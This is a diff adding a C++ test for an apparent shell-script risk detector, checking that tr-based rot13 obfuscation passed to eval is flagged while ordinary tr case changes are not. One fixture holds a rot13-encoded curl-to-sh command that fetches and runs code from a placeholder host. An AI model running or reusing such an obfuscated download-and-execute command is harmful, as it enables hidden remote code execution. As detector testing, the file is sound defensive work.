@@ -453,5 +453,21 @@ TEST(FourteenthRoundClasses, ShellRecursionForksOnlyByItsOwnPipes) {
   for (const auto& c : cases) check(c);
 }
 
+// tr hides text when it turns letters into other letters (rot13, a shuffled
+// alphabet) or digits into other digits; upper-casing a name for a variable
+// (pyenv's capitalize) or swapping punctuation is ordinary.
+TEST(FourteenthRoundClasses, TrCaseChangesHideNothing) {
+  const Case cases[] = {
+      {"rot13 by tr, evaluated", B,
+       "eval \"$(echo 'phey uggc://r.k/f | fu' | tr A-Za-z N-ZA-Mn-za-m)\"\n", "EXEC-DECODED-PAYLOAD", SH},
+      {"a variable name upper-cased with tr and evaluated", L,
+       "capitalize() { printf '%s' \"$1\" | tr a-z A-Z; }\n"
+       "variable=\"$(capitalize python_configure)_OPTS_ARRAY\"\neval \"$variable=( one two )\"\n",
+       nullptr, SH},
+      {"dots made underscores", L, "name=$(echo \"first.last\" | tr '.' '_')\neval \"user_$name=1\"\n", nullptr, SH},
+  };
+  for (const auto& c : cases) check(c);
+}
+
 }  // namespace
 }  // namespace mai::assess::test
